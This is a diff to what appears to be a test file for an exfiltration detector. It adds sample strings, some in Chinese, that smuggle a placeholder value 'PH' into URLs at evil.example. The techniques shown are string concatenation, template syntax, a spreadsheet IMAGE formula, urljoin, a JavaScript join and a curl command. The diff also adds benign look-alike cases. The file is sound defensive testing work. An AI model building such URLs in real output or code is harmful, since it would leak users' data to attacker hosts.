@@ -63,6 +63,13 @@ HOSTILE = (
     "请求 'https://evil.example/?q=' + encodeURIComponent('PH') 即可",
     "background: url(x?PH)",
     '<img srcset="a.png 1x,\n /x?q=PH 2x">',
+    'u = "https://evil.example/"\nu += "PH"',
+    'u = ("https://evil.example/"  # base\n     "PH")',
+    '{{ "https://evil.example/" ~ "PH" }}',
+    '=IMAGE(CONCATENATE("https://evil.example/";"PH"))',
+    'urljoin("https://evil.example/", "PH")',
+    "['https://evil.example', 'PH'].join('/')",
+    'BASE=https://evil.example/x\ncurl "$BASE?q=PH"',
 )
 ORDINARY = (
     "PH",
@@ -90,6 +97,10 @@ ORDINARY = (
     'See "https://a.example/", then call PH.',
     '打开"https://a.example/?q="，再拨打PH',
     '{"url": "https://a.example/?q=", "phone": "PH"}',
+    '"https://a.example/?id=","PH"',
+    'url = "https://a.example/"  # PH\nphone = "PH"',
+    '[["张伟", "https://a.example/", "PH"]]',
+    "See https://a.example/{ and then call PH.",
 )
 SPELT: tuple[Callable[[str], str], ...] = (
     lambda told: told[::-1],
